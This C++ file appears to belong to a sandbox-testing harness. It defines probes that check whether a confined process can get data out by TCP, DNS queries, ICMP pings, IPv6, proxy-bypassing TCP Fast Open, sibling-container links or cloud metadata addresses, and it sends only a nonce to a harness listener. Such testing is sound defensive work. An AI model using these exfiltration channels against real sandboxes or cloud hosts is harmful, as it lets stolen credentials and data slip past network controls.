// Ways out: from a sandbox that may compute but not speak, each of them carries what it knows to somebody
// else. Nothing leaves the machine; the listener is an address of the host's that is not its loopback.

#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>

#include "openings.h"
#include "visit.h"

namespace probe {
namespace {

constexpr const char* remedy =
    "Give the sandbox a network namespace of its own, with no way out but one that decides who is spoken to.";

Text to(const char* call, const Order& order) {
  return Text(call, "(", order.text("address"), ":", order.text("port"), ")");
}

/// A question for the address of a name, of which the first part is the nonce: RFC 1035.
struct Question {
  char bytes[128] = {0x45, 0x53, 1, 0, 0, 1};  // an id, "recursion desired", one question
  unsigned size = 12;

  explicit Question(std::string_view nonce) {
    add(nonce);
    add("test");
    bytes[size++] = 0;
    for (char each : {'\0', '\1', '\0', '\1'}) bytes[size++] = each;  // type A, of the Internet
  }
  void add(std::string_view label) {
    bytes[size++] = static_cast<char>(label.size());
    std::memcpy(bytes + size, label.data(), label.size());
    size += static_cast<unsigned>(label.size());
  }
};

/// The nonce, as one that asks for an echo.
struct Echo {
  icmphdr header{};
  char text[64] = "";

  explicit Echo(std::string_view nonce) {
    header.type = ICMP_ECHO;
    if (nonce.size() > sizeof text) stop("the nonce is too long");
    std::memcpy(text, nonce.data(), nonce.size());
    unsigned sum = 0;
    for (std::size_t i = 0; i < sizeof *this; i += 2) {
      unsigned short word;
      std::memcpy(&word, reinterpret_cast<const char*>(this) + i, sizeof word);
      sum += word;
    }
    sum = (sum & 0xffff) + (sum >> 16);
    header.checksum = static_cast<unsigned short>(~(sum + (sum >> 16)));
  }
};

/// A socket that pings: one for everybody, where the host allows it, or a raw one.
Result ping_socket() {
  Result made = sys(SYS_socket, AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);
  if (made) return made;
  step("socket(SOCK_DGRAM, IPPROTO_ICMP)", made);
  return sys(SYS_socket, AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
}

}  // namespace

constinit const Probes probes = {
    {.id = "egress-tcp",
     .cls = "network",
     .guarantee = "network.egress",
     .summary = "connect to an address outside",
     .technique =
         "Connects to an address of the host that is not its loopback, on which the harness listens, "
         "and says the nonce. So a stolen key leaves.",
     .references = {"tcp(7)", "https://attack.mitre.org/techniques/T1048/"},
     .attempts = {{"connect", NOBODY_THERE}},
     .witness = {"listener host tcp"},
     .opening = {"namespaces.new-=net"},
     .remedy = remedy,
     .attack =
         [](const Order& order) {
           sockaddr_in address = place_and_port(order);
           visit(order, AF_INET, to("connect", order), &address, sizeof address);
         }},
    {.id = "egress-udp-dns",
     .cls = "network",
     .guarantee = "network.egress",
     .summary = "carry a word out in the name that it asks for",
     .technique = "Sends a question of the DNS to the harness, with the nonce as part of the name: who owns "
                  "the domain reads along. Name servers pass questions on where nothing else gets out. It is "
                  "sent twice, since only the second one learns that nobody took the first.",
     .references = {"udp(7)", "https://attack.mitre.org/techniques/T1048/003/"},
     .attempts = {{"send", NOBODY_THERE}},
     .witness = {"listener host udp"},
     .opening = {"namespaces.new-=net"},
     .remedy = remedy,
     .attack =
         [](const Order& order) {
           sockaddr_in address = place_and_port(order);
           Question question(order.text("nonce"));
           Fd socket = socket_for("send", "AF_INET, SOCK_DGRAM", AF_INET, SOCK_DGRAM);
           if (!socket) return;
           Result connected = sys(SYS_connect, socket.get(), &address, sizeof address);
           if (!connected) {
             attempt("send", to("connect", order), connected);
             return;
           }
           step("write(question)", sys(SYS_write, socket.get(), question.bytes, question.size));
           attempt("send", to("write", order), sys(SYS_write, socket.get(), question.bytes, question.size));
         }},
    {.id = "egress-icmp",
     .cls = "network",
     .guarantee = "network.egress",
     .summary = "carry a word out in a ping",
     .technique = "Sends an echo request with the nonce in it to the harness. Many a firewall knows TCP and "
                  "UDP, and lets a ping pass with whatever it carries.",
     .references = {"icmp(7)", "https://attack.mitre.org/techniques/T1095/"},
     .attempts = {{"send", NOBODY_THERE}},
     .witness = {"listener host icmp"},
     // Sockets that ping without the capability are for the groups that the host names: none, as a rule.
     .opening = {"namespaces.new-=net", OUT_OF_THE_USER_NAMESPACE, "capabilities.keep+=cap_net_raw"},
     .remedy = remedy,
     .attack =
         [](const Order& order) {
           Result made = ping_socket();
           if (!made) {
             attempt("send", "socket(IPPROTO_ICMP)", made);
             return;
           }
           Fd socket(step("socket(IPPROTO_ICMP)", made));
           sockaddr_in address = place(order);
           Echo echo(order.text("nonce"));
           attempt("send", Text("sendto(", order.text("address"), ", echo request)"),
                   sys(SYS_sendto, socket.get(), &echo, sizeof echo, 0, &address, sizeof address));
         }},
    {.id = "egress-ipv6",
     .cls = "network",
     .guarantee = "network.egress",
     .summary = "get out by the other version of IP",
     .technique = "Connects to the host by IPv6, on which the harness listens. What was closed by a list of "
                  "IPv4 addresses is open there.",
     .references = {"ipv6(7)", "CVE-2020-13401"},
     .attempts = {{"connect", NOBODY_THERE}},
     .witness = {"listener tcp6"},
     .opening = {"namespaces.new-=net"},
     .remedy = remedy,
     .attack =
         [](const Order& order) {
           sockaddr_in6 address{};
           address.sin6_family = AF_INET6;
           address.sin6_addr.s6_addr[15] = 1;  // ::1
           address.sin6_port = port(order);
           visit(order, AF_INET6, Text("connect([::1]:", order.text("port"), ")"), &address, sizeof address);
         }},
    {.id = "egress-proxy-bypass",
     .cls = "network",
     .guarantee = "network.egress",
     .summary = "go past a proxy, without a connect(2)",
     .technique = "Sends the nonce by a TCP socket that was never connected, by sendto(2) with MSG_FASTOPEN: "
                  "the kernel connects on the way. What sends programs to a proxy, by a variable, a library "
                  "or a watch on connect(2), is not asked.",
     .references = {"tcp(7), TCP_FASTOPEN_CONNECT", "RFC 7413"},
     .attempts = {{"send", NOBODY_THERE, {"ok"}, {"EOPNOTSUPP"}}},  // net.ipv4.tcp_fastopen
     .witness = {"listener host tcp"},
     .opening = {"namespaces.new-=net"},
     .remedy = remedy,
     .attack =
         [](const Order& order) {
           sockaddr_in address = place_and_port(order);
           std::string_view nonce = order.text("nonce");
           Fd socket = socket_for("send", "AF_INET, SOCK_STREAM", AF_INET, SOCK_STREAM);
           if (!socket) return;
           be_brief(socket);
           attempt("send", to("sendto", order),
                   sys(SYS_sendto, socket.get(), nonce.data(), nonce.size(), MSG_FASTOPEN, &address,
                       sizeof address));
         }},
    {.id = "sibling-container-reach",
     .cls = "network",
     .guarantee = "network.egress",
     .summary = "reach what else hangs on the network that it was given",
     .technique = "Connects through an interface of its own to an address behind it that is not its peer's, "
                  "where the harness listens in place of another sandbox. What joins sandboxes to the world "
                  "joins them to each other, unless somebody stands between.",
     .references = {"veth(4)", "CIS Docker Benchmark 2.2"},
     .attempts = {{"connect", NOBODY_THERE}},
     .witness = {"alone", "listener host tcp"},
     .opening = {"network.kind=veth", "network.addresses=[\"198.51.100.214/30\"]",
                 "network.host_addresses=[\"198.51.100.213/30\"]", "network.gateways=[\"198.51.100.213\"]"},
     .remedy = "Give the sandbox no interface but its loopback, or one whose other end forwards nothing.",
     .attack =
         [](const Order& order) {
           sockaddr_in address = place_and_port(order);
           visit(order, AF_INET, to("connect", order), &address, sizeof address);
         }},
    {.id = "metadata-endpoint",
     .cls = "network",
     .guarantee = "network.egress",
     .summary = "find the way to the service that hands out a cloud's keys",
     .technique = "Points a datagram socket at the addresses where clouds tell their machines who they are, "
                  "and give them keys. That sends nothing: the kernel looks whether there is a way.",
     .references = {"https://attack.mitre.org/techniques/T1552/005/"},
     .attempts = {{"connect", NOBODY_THERE, {"ok"}, {"ENETUNREACH", "EHOSTUNREACH"}}},
     .witness = {"trace"},
     .opening = {"namespaces.new-=net"},
     .remedy = remedy,
     .attack =
         [](const Order&) {
           for (const char* each : {"169.254.169.254", "100.100.100.200"}) {
             sockaddr_in service{};
             service.sin_family = AF_INET;
             service.sin_port = htons(80);
             service.sin_addr.s_addr = address(each);
             if (come(AF_INET, SOCK_DGRAM, Text("connect(", each, ":80)"), &service, sizeof service)) return;
           }
         }},
};

}  // namespace probe
